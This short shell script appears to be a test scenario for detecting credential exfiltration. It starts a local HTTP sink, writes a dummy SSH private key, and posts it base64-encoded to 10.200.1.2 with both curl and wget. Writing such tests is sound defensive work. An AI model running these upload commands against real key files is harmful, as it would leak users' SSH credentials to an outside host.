# A shell puts a key (one of the scene's own) into curl's arguments.
CALLS=yes
peers() { (cd /; python3 -ISc 'import http.server
class H(http.server.BaseHTTPRequestHandler):
  def do_POST(s): s.rfile.read(int(s.headers["Content-Length"])); s.send_response(204); s.end_headers()
http.server.HTTPServer(("10.200.1.2", 8000), H).serve_forever()') & listening t 8000; }
scene() {
  mkdir -p .ssh
  seq 90 > .ssh/id_ed25519
  curl -s -d "x=$(base64 -w 0 .ssh/id_ed25519)" http://10.200.1.2:8000/x
  bash -c 'k=$(gzip -9c .ssh/id_ed25519 | base64 -w 0); wget -q -O - --post-data "$k" http://10.200.1.2:8000/x'
}
